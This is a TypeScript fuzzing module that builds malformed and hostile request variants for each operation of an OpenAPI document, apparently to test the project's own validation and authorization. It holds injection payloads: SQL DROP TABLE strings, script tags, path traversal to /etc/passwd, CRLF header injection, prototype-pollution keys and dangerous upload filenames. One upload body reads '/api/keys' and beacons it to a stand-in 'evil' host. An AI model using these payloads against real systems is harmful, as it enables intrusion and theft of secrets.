/**
 * Hostile request variants for one operation of the OpenAPI document (issue #16): every parameter and
 * body field gets values of the wrong type, at and past its limits, unicode edge cases (NUL, lone
 * surrogates, RTL overrides, emoji), path traversal and malformed percent-encoding; bodies come
 * truncated, oversized, deeply nested, duplicated, with prototype keys and with the wrong content
 * type. Each variant names its class, so a run can show that every operation met every class, and says
 * whether the request still reaches the authorization layer (a malformed URL or an oversized body is
 * refused before it) and whether its body breaks the schema (an allowed caller must then get 400).
 *
 * Sampling: every class is applied to every operation, but a class with many values (hostile strings,
 * numeric limits) cycles its values over the fields instead of crossing every value with every field.
 */
import type { RoutePolicy } from '../../shared/access/route-access';

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minItems?: number;
  maxItems?: number;
  pattern?: string;
  format?: string;
  $ref?: string;
}

export interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  required?: boolean;
  schema: JsonSchema;
}

export interface Operation {
  method: string;
  /** The document's path, `/api/bot/{id}` style. */
  path: string;
  policy: RoutePolicy;
  parameters: Parameter[];
  /** The body's media types (empty: the operation takes no body). */
  bodyTypes: string[];
  bodySchema?: JsonSchema;
  /** The statuses the document declares the operation may answer. */
  statuses: number[];
}

export interface OpenApiDocument {
  paths: Record<
    string,
    Record<
      string,
      {
        'x-policy': RoutePolicy;
        parameters?: Parameter[];
        requestBody?: { content: Record<string, { schema: JsonSchema }> };
        responses: Record<string, unknown>;
      }
    >
  >;
  components: { schemas: Record<string, JsonSchema> };
}

export type VariantClass =
  | 'baseline'
  | 'path-encoding'
  | 'path-traversal'
  | 'path-unicode'
  | 'path-length'
  | 'path-injection'
  | 'path-number'
  | 'query-type'
  | 'query-limits'
  | 'query-unicode'
  | 'query-length'
  | 'query-duplicate'
  | 'query-array'
  | 'query-missing'
  | 'query-extra'
  | 'query-encoding'
  | 'body-not-json'
  | 'body-truncated'
  | 'body-non-object'
  | 'body-empty'
  | 'body-extra-field'
  | 'body-prototype'
  | 'body-duplicate-keys'
  | 'body-deep-nesting'
  | 'body-oversized'
  | 'body-charset'
  | 'body-content-type'
  | 'body-unexpected'
  | 'field-missing'
  | 'field-wrong-type'
  | 'field-null'
  | 'field-unicode'
  | 'field-limits'
  | 'field-length'
  | 'field-huge-array'
  | 'field-deep-nesting'
  | 'header-hostile'
  | 'upload-filename'
  | 'upload-content'
  | 'upload-content-type';

export interface Variant {
  class: VariantClass;
  label: string;
  /** Raw (already percent-encoded) path segments replacing the valid ones. */
  path?: Record<string, string>;
  /** The raw query string without `?`; undefined keeps the valid one. */
  query?: string;
  headers?: Record<string, string>;
  /** The content type sent with the body; null sends none. Undefined keeps the operation's own. */
  contentType?: string | null;
  /** The body; undefined keeps the valid one. */
  body?: string | Uint8Array;
  /** False when the request may be answered before the authorization layer looks at it. */
  reachesAuthz: boolean;
  /**
   * True when the request breaks the contract (the body's shape or types, a limit, NUL or an unpaired
   * surrogate in any text): a caller the route admits gets 400.
   */
  invalid?: boolean;
}

/** Every operation of the document, with parameters and body schema resolved. */
export function operationsOf(document: OpenApiDocument): Operation[] {
  return Object.entries(document.paths).flatMap(([path, item]) =>
    Object.entries(item).map(([method, op]) => {
      const content = op.requestBody?.content ?? {};
      return {
        method: method.toUpperCase(),
        path,
        policy: op['x-policy'],
        parameters: op.parameters ?? [],
        bodyTypes: Object.keys(content),
        statuses: Object.keys(op.responses).map(Number),
        ...(content['application/json'] ? { bodySchema: content['application/json'].schema } : {}),
      };
    }),
  );
}

/** Strings no field should choke on: each one is a separate edge case. */
export const HOSTILE_STRINGS: readonly { label: string; value: string; illFormed?: true }[] = [
  { label: 'NUL', value: 'a\u0000b', illFormed: true },
  { label: 'lone high surrogate', value: 'x\ud800y', illFormed: true },
  { label: 'lone low surrogate', value: '\udfff', illFormed: true },
  { label: 'RTL override', value: '\u202egnp.exe' },
  { label: 'emoji', value: '😀👨‍👩‍👧‍👦🏳️‍🌈' },
  { label: 'combining and zero-width', value: 'e\u0301\u200b\u200d\ufeff' },
  { label: 'path traversal', value: '../../../../etc/passwd' },
  { label: 'windows path', value: 'C:\\Windows\\system32\\con' },
  { label: 'SQL', value: "' OR '1'='1'; DROP TABLE users; --" },
  { label: 'HTML', value: '<script>alert(1)</script><svg onload=alert(1)>' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder is the hostile text.
  { label: 'format string', value: '%s%s%n%x{0}${7*7}{{7*7}}' },
  { label: 'CRLF', value: 'a\r\nSet-Cookie: tsmb_session=evil' },
  { label: 'empty', value: '' },
  { label: 'blank', value: ' \t ' },
  { label: 'prototype', value: '__proto__' },
  { label: 'noncharacter', value: '\uffff\ufffe' },
];

/** Path segments that are not valid percent-encoded UTF-8: refused before routing. */
const BAD_ENCODINGS = ['%', '%ED%A0%80', '%E0%A4%A', '%C0%AF', 'a%zz'];
/** Path segments that try to leave the route (a URL parser may resolve them into another path). */
const TRAVERSALS = ['..', '%2e%2e', '..%2F..%2F..%2Fetc%2Fpasswd', '..%5C..%5Cwindows', '.%2E%2F.%2E%2F'];
const PATH_UNICODE = [
  '%00',
  'a%00b',
  '%E2%80%AEgnp',
  encodeURIComponent('😀'),
  '%EF%BF%BF',
  'x%0D%0ASet-Cookie%3A%20a%3Db',
  encodeURIComponent('\u200b'),
];
const PATH_INJECTIONS = ["'%20OR%201%3D1--", '%3Cscript%3E', '*', '%25', '%20', '~', 'null', 'undefined'];
const NUMBER_TEXTS = ['-1', '1.5', '1e400', '9'.repeat(400), 'NaN', 'Infinity', '0x10', '%201', '', '-0'];

/** JSON number tokens at and past any limit; `1e309` parses to Infinity, `1e-400` to 0. */
const RAW_NUMBERS = ['1e309', '-1e309', '1e-400', '-0', '9007199254740993', '0.1', '1.5'];

export class SchemaWalker {
  constructor(
    private readonly components: Record<string, JsonSchema>,
    /** The value of a string field by its name, where the caller wants a known one (passwords, cookies). */
    private readonly stringFor: (name: string) => string | undefined = () => undefined,
  ) {}

  resolve(schema: JsonSchema): JsonSchema {
    if (schema.$ref) return this.resolve(this.components[schema.$ref.split('/').pop()!]!);
    if (schema.allOf?.length === 1) return this.resolve(schema.allOf[0]!);
    return schema;
  }

  /** The schema's own types (`['string']`, `['integer', 'null']`...), alternatives flattened. */
  types(schema: JsonSchema): string[] {
    const s = this.resolve(schema);
    const alternatives = s.anyOf ?? s.oneOf;
    if (alternatives) return alternatives.flatMap((a) => this.types(a));
    if (s.enum) return [...new Set(s.enum.map((v) => (v === null ? 'null' : typeof v)))];
    if (s.const !== undefined) return [typeof s.const];
    return [s.type ?? 'unknown'].flat();
  }

  /** A small value the schema accepts (the base every mutation starts from). */
  valid(schema: JsonSchema, name = ''): unknown {
    const s = this.resolve(schema);
    if (s.const !== undefined) return s.const;
    if (s.enum) return s.enum.find((v) => v !== null) ?? s.enum[0];
    const alternatives = s.anyOf ?? s.oneOf;
    if (alternatives) {
      const nonNull = alternatives.find((a) => !this.types(a).includes('null'));
      return this.valid(nonNull ?? alternatives[0]!, name);
    }
    const type = [s.type].flat().find((t) => t !== 'null');
    switch (type) {
      case 'object':
        return Object.fromEntries(
          (s.required ?? []).map((key) => [key, this.valid(s.properties?.[key] ?? {}, key)]),
        );
      case 'array':
        return s.minItems ? Array.from({ length: s.minItems }, () => this.valid(s.items ?? {}, name)) : [];
      case 'integer':
      case 'number':
        return s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : 1);
      case 'boolean':
        return true;
      case 'string':
        return this.stringFor(name) ?? validString(s, name);
      default:
        return 'x';
    }
  }
}

function validString(s: JsonSchema, name: string): string {
  if (s.format === 'uri' || /url$/i.test(name)) return 'http://127.0.0.1:9/x';
  const length = Math.max(s.minLength ?? 1, /password/i.test(name) ? 12 : 1);
  return 'x'.repeat(length);
}

/** A JSON text of `base` with the value at `path` replaced by the raw JSON token `raw`. */
function withRawAt(base: unknown, path: string[], raw: string | undefined): string {
  const marker = '\u0001RAW\u0001';
  const copy = structuredClone(base) as Record<string, unknown>;
  let target = copy;
  for (const key of path.slice(0, -1)) target = target[key] as Record<string, unknown>;
  const last = path.at(-1)!;
  if (raw === undefined) delete target[last];
  else target[last] = marker;
  return JSON.stringify(copy).replace(JSON.stringify(marker), raw ?? '');
}

/** A value of a type the field does not take. */
function wrongTypeFor(types: string[]): unknown {
  if (types.includes('object')) return 'not an object';
  if (types.includes('array')) return { not: 'an array' };
  if (types.includes('string')) return 12345;
  if (types.includes('boolean')) return 'true';
  return '7';
}

function percentEncoded(value: string): string | undefined {
  try {
    return encodeURIComponent(value);
  } catch {
    return undefined;
  }
}

function nested(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
}

interface Field {
  path: string[];
  schema: JsonSchema;
  required: boolean;
}

/** The fields of a body: top-level ones and, one level down, those of object-valued fields. */
function fieldsOf(walker: SchemaWalker, schema: JsonSchema): Field[] {
  const s = walker.resolve(schema);
  const fields: Field[] = [];
  for (const [name, property] of Object.entries(s.properties ?? {})) {
    const required = s.required?.includes(name) ?? false;
    fields.push({ path: [name], schema: property, required });
    const inner = walker.resolve(property);
    if (inner.properties)
      for (const [innerName, innerProperty] of Object.entries(inner.properties))
        fields.push({
          path: [name, innerName],
          schema: innerProperty,
          required: inner.required?.includes(innerName) ?? false,
        });
  }
  return fields;
}

/** Builds the variants of one operation; `cycle` spreads value lists over fields. */
export function variantsFor(op: Operation, walker: SchemaWalker): Variant[] {
  const variants: Variant[] = [{ class: 'baseline', label: 'valid request', reachesAuthz: true }];
  let turn = 0;
  const cycle = <T>(values: readonly T[]): T => values[turn++ % values.length]!;

  for (const p of op.parameters.filter((p) => p.in === 'path')) {
    const s = walker.resolve(p.schema);
    const push = (cls: VariantClass, value: string, reachesAuthz: boolean, label = `${p.name}=${value}`) =>
      variants.push({
        class: cls,
        label,
        path: { [p.name]: value },
        reachesAuthz,
        ...(value.includes('%00') ? { invalid: true } : {}),
      });
    for (const value of BAD_ENCODINGS) push('path-encoding', value, false);
    for (const value of TRAVERSALS) push('path-traversal', value, false);
    for (const value of PATH_UNICODE) push('path-unicode', value, true);
    for (const length of [(s.maxLength ?? 128) + 1, 8000])
      push('path-length', 'a'.repeat(length), true, `${p.name} of ${length} characters`);
    for (const value of PATH_INJECTIONS) push('path-injection', value, true);
    if (walker.types(p.schema).some((t) => t === 'integer' || t === 'number'))
      for (const value of NUMBER_TEXTS) if (value !== '') push('path-number', value, true);
  }

  const query = op.parameters.filter((p) => p.in === 'query');
  const validPairs = (skip?: string) =>
    query
      .filter((p) => p.required && p.name !== skip)
      .map((p) => `${p.name}=${encodeURIComponent(String(walker.valid(p.schema, p.name)))}`);
  const queryWith = (name: string, rawValue: string | undefined, extra: string[] = []) =>
    [...validPairs(name), ...(rawValue === undefined ? [] : [`${name}=${rawValue}`]), ...extra].join('&');
  for (const p of query) {
    const s = walker.resolve(p.schema);
    const types = walker.types(p.schema);
    const push = (cls: VariantClass, label: string, q: string, reachesAuthz = true) =>
      variants.push({ class: cls, label: `${p.name}: ${label}`, query: q, reachesAuthz });
    if (types.includes('integer') || types.includes('number')) {
      for (const value of NUMBER_TEXTS) push('query-type', value || 'empty', queryWith(p.name, value));
      const limits = [s.minimum, s.maximum].filter((v): v is number => v !== undefined);
      for (const limit of limits)
        for (const value of [limit - 1, limit, limit + 1])
          push('query-limits', String(value), queryWith(p.name, String(value)));
    } else {
      push('query-type', 'a number where text is due', queryWith(p.name, '12345'));
      if (s.enum) push('query-type', 'not one of the values', queryWith(p.name, 'NOT_A_VALUE'));
    }
    for (const { label, value, illFormed } of HOSTILE_STRINGS) {
      // A lone surrogate has no UTF-8 form: send the bytes a client would mis-encode it as.
      const encoded = percentEncoded(value);
      variants.push({
        class: 'query-unicode',
        label: `${p.name}: ${label}`,
        query: queryWith(p.name, encoded ?? '%ED%A0%80'),
        reachesAuthz: encoded !== undefined,
        ...(illFormed ? { invalid: true } : {}),
      });
    }
    push('query-length', 'over its maximum length', queryWith(p.name, 'q'.repeat((s.maxLength ?? 4096) + 1)));
    push('query-duplicate', 'given twice', queryWith(p.name, undefined, [`${p.name}=a`, `${p.name}=b`]));
    push('query-array', 'as name[]', queryWith(p.name, undefined, [`${p.name}[]=a`, `${p.name}[0]=b`]));
    if (p.required) push('query-missing', 'left out', queryWith(p.name, undefined));
    push('query-encoding', 'malformed percent-encoding', queryWith(p.name, cycle(BAD_ENCODINGS)), false);
  }
  variants.push(
    {
      class: 'query-extra',
      label: 'unknown parameters',
      query: [...validPairs(), 'zz_unknown=1', '__proto__=x', 'constructor[prototype][x]=1'].join('&'),
      reachesAuthz: true,
    },
    {
      class: 'query-extra',
      label: 'junk separators',
      query: `&&=&==&${validPairs().join('&')}&&`,
      reachesAuthz: true,
    },
  );

  if (op.bodySchema) variants.push(...jsonBodyVariants(op, walker, cycle));
  else if (op.bodyTypes.length === 0 && op.method !== 'GET')
    variants.push(
      {
        class: 'body-unexpected',
        label: 'a JSON body the route does not take',
        contentType: 'application/json',
        body: '{"zz":"unexpected","__proto__":{"polluted":true}}',
        reachesAuthz: true,
      },
      {
        class: 'body-unexpected',
        label: 'a text body the route does not take',
        contentType: 'text/plain',
        body: 'hello',
        reachesAuthz: true,
      },
      {
        class: 'body-oversized',
        label: '2 MiB body',
        contentType: 'application/json',
        body: `"${'x'.repeat(2 * 1024 * 1024)}"`,
        reachesAuthz: false,
      },
    );

  variants.push({
    class: 'header-hostile',
    label: 'hostile request id, forwarded-for, accept and range headers',
    headers: {
      'x-request-id': `${'x'.repeat(5000)}<script>`,
      'x-forwarded-for': "'; DROP TABLE users; --, 999.999.999.999",
      'x-forwarded-host': 'evil.example',
      accept: 'text/html;q=0.9, */*;q=0.1',
      range: 'bytes=999999999-',
      'accept-encoding': 'gzip;q=2, br;q=-1',
    },
    reachesAuthz: true,
  });
  return variants;
}

function jsonBodyVariants(op: Operation, walker: SchemaWalker, cycle: <T>(v: readonly T[]) => T): Variant[] {
  const schema = op.bodySchema!;
  const base = walker.valid(schema) as Record<string, unknown>;
  const baseText = JSON.stringify(base);
  const bad = (cls: VariantClass, label: string, body: string, contentType?: string | null): Variant => ({
    class: cls,
    label,
    body,
    ...(contentType === undefined ? {} : { contentType }),
    reachesAuthz: true,
    invalid: true,
  });
  const firstKey = Object.keys(base)[0];
  const variants: Variant[] = [
    bad('body-not-json', 'single brace', '{'),
    bad('body-not-json', 'single quotes', "{'a': 1}"),
    bad('body-not-json', 'NaN literal', '{"a": NaN}'),
    bad('body-not-json', 'trailing garbage', `${baseText} trailing`),
    bad('body-truncated', 'cut in half', baseText.slice(0, Math.max(1, Math.floor(baseText.length / 2)))),
    bad('body-truncated', 'cut before the last brace', baseText.slice(0, -1)),
    bad('body-non-object', 'null', 'null'),
    bad('body-non-object', 'array', `[${baseText}]`),
    bad('body-non-object', 'string', '"text"'),
    bad('body-non-object', 'number', '42'),
    bad('body-non-object', 'boolean', 'true'),
    bad('body-empty', 'empty body', ''),
    bad('body-extra-field', 'unknown field', JSON.stringify({ ...base, zzUnknownField: 1 })),
    {
      class: 'body-prototype',
      label: '__proto__ and constructor keys',
      body: `${baseText.slice(0, -1)}${baseText.length > 2 ? ',' : ''}"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`,
      reachesAuthz: true,
    },
    {
      class: 'body-duplicate-keys',
      label: 'a key given twice',
      body: firstKey ? `{${JSON.stringify(firstKey)}:{"x":1},${baseText.slice(1)}` : '{"zz":1,"zz":2}',
      reachesAuthz: true,
      ...(firstKey ? {} : { invalid: true }),
    },
    bad('body-deep-nesting', '100 000 nested arrays', nested(100_000)),
    bad('body-deep-nesting', '50 000 nested objects', `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`),
    {
      class: 'body-oversized',
      label: '2 MiB body',
      body: JSON.stringify({ ...base, zzPadding: 'x'.repeat(2 * 1024 * 1024) }),
      reachesAuthz: false,
    },
    {
      class: 'body-charset',
      label: 'UTF-16 with a BOM',
      contentType: 'application/json; charset=utf-16',
      body: new Uint8Array(Buffer.from(`\ufeff${baseText}`, 'utf16le')),
      reachesAuthz: true,
    },
    {
      class: 'body-charset',
      label: 'UTF-8 byte order mark',
      body: `\ufeff${baseText}`,
      reachesAuthz: true,
    },
    {
      class: 'body-charset',
      label: 'invalid UTF-8 bytes',
      body: new Uint8Array([
        ...Buffer.from(baseText.slice(0, -1)),
        0x2c,
        0x22,
        0x7a,
        0x22,
        0x3a,
        0x22,
        0xc3,
        0x28,
        0xff,
        0x22,
        0x7d,
      ]),
      reachesAuthz: true,
      invalid: true,
    },
  ];
  for (const type of [
    null,
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/jsonx',
    'application/xml',
  ])
    variants.push(bad('body-content-type', `content type ${type ?? 'missing'}`, baseText, type));

  for (const field of fieldsOf(walker, schema)) {
    const s = walker.resolve(field.schema);
    const types = walker.types(field.schema);
    const name = field.path.join('.');
    // A field of an optional object is tried inside a valid one.
    const parent = field.path.length > 1 ? field.path[0]! : undefined;
    const fieldBase =
      parent && base[parent] === undefined
        ? { ...base, [parent]: walker.valid(walker.resolve(schema).properties![parent]!) }
        : base;
    const at = (raw: string | undefined) => withRawAt(fieldBase, field.path, raw);
    if (field.required) variants.push(bad('field-missing', `${name} left out`, at(undefined)));
    variants.push(
      bad('field-wrong-type', `${name} of a wrong type`, at(JSON.stringify(wrongTypeFor(types)))),
    );
    if (!types.includes('null')) variants.push(bad('field-null', `${name} null`, at('null')));
    if (types.includes('string') || types.includes('unknown')) {
      for (const hostile of [cycle(HOSTILE_STRINGS), cycle(HOSTILE_STRINGS)])
        variants.push({
          class: 'field-unicode',
          label: `${name}: ${hostile.label}`,
          body: at(JSON.stringify(hostile.value)),
          reachesAuthz: true,
          ...(hostile.illFormed ? { invalid: true } : {}),
        });
      const over = s.maxLength !== undefined ? s.maxLength + 1 : 300_000;
      variants.push({
        class: 'field-length',
        label: `${name} of ${over} characters`,
        body: at(JSON.stringify('y'.repeat(over))),
        reachesAuthz: true,
        ...(s.maxLength !== undefined ? { invalid: true } : {}),
      });
    }
    if (types.includes('integer') || types.includes('number')) {
      const limits: { value: string; outside: boolean }[] = [];
      if (s.minimum !== undefined)
        limits.push(
          { value: String(s.minimum), outside: false },
          { value: String(s.minimum - 1), outside: true },
        );
      if (s.maximum !== undefined)
        limits.push(
          { value: String(s.maximum), outside: false },
          { value: String(s.maximum + 1), outside: true },
        );
      for (const { value, outside } of limits)
        variants.push({
          class: 'field-limits',
          label: `${name}=${value}`,
          body: at(value),
          reachesAuthz: true,
          ...(outside ? { invalid: true } : {}),
        });
      for (const raw of [cycle(RAW_NUMBERS), cycle(RAW_NUMBERS), '1e309'])
        variants.push({
          class: 'field-limits',
          label: `${name}=${raw}`,
          body: at(raw),
          reachesAuthz: true,
          ...(raw.includes('e309') ? { invalid: true } : {}),
        });
    }
    if (types.includes('array')) {
      const item = JSON.stringify(walker.valid(s.items ?? {}));
      // As many items as fit under the body size limit (which a bigger body would meet first).
      const items = Math.min(100_000, Math.floor(900_000 / (item.length + 1)));
      variants.push({
        class: 'field-huge-array',
        label: `${name} with ${items} items`,
        body: at(`[${Array(items).fill(item).join(',')}]`),
        reachesAuthz: true,
        ...(s.maxItems !== undefined ? { invalid: true } : {}),
      });
    }
    variants.push({
      class: 'field-deep-nesting',
      label: `${name} nested 20 000 deep`,
      body: at(nested(20_000)),
      reachesAuthz: true,
    });
  }
  return variants;
}

/** Variants of the raw-body upload: hostile file names, contents that are not audio, wrong types. */
export function uploadVariants(validName: string): Variant[] {
  const named = (cls: VariantClass, label: string, name: string): Variant => ({
    class: cls,
    label,
    headers: { 'x-filename': name },
    reachesAuthz: true,
  });
  const names: [string, string][] = [
    ['parent folders', '../../../../tmp/escaped.mp3'],
    ['encoded parent folders', '..%2F..%2F..%2Ftmp%2Fescaped.mp3'],
    ['absolute path', '/etc/cron.d/escaped.mp3'],
    ['windows path', 'C:%5CWindows%5Csystem32%5Cescaped.mp3'],
    ['reserved windows name', 'CON.mp3'],
    ['reserved windows name with stream', 'NUL.mp3::$DATA'],
    ['encoded NUL', 'song.mp3%00.html'],
    ['dot', '.'],
    ['dot dot', '..'],
    ['trailing slash', 'folder/'],
    ['RTL override', '%E2%80%AEpm3.html'],
    ['lone surrogate', '%ED%A0%80.mp3'],
    ['stray percent', '100%.mp3'],
    ['control character', '%0D%0Aset-cookie.mp3'],
    ['over 255 characters', `${'n'.repeat(300)}.mp3`],
    ['not audio extension', 'page.html'],
    ['double extension', 'song.mp3.php'],
    ['hidden file', '.htaccess'],
  ];
  const contents: [string, string, string][] = [
    ['HTML', validName, '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'],
    [
      'SVG with script',
      'cover.mp3',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    ],
    [
      'JavaScript',
      'song.ogg',
      'fetch("/api/keys").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))',
    ],
    [
      'HLS playlist naming a local file',
      'list.mp3',
      '#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n/etc/passwd\n#EXT-X-ENDLIST\n',
    ],
    ['ffconcat list', 'list.flac', 'ffconcat version 1.0\nfile /etc/passwd\n'],
    ['PNG signature', 'image.mp3', '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR'],
    ['empty', validName, ''],
  ];
  return [
    ...names.map(([label, name]) => named('upload-filename', `x-filename ${label}`, name)),
    ...contents.map(
      ([label, name, body]): Variant => ({
        class: 'upload-content',
        label: `${label} sent as ${name}`,
        headers: { 'x-filename': name },
        contentType: 'audio/mpeg',
        body,
        reachesAuthz: true,
      }),
    ),
    ...['text/html', 'image/svg+xml', 'application/javascript', 'multipart/form-data; boundary=x', null].map(
      (type): Variant => ({
        class: 'upload-content-type',
        label: `content type ${type ?? 'missing'}`,
        headers: { 'x-filename': validName },
        contentType: type,
        body: '<html></html>',
        reachesAuthz: true,
      }),
    ),
  ];
}
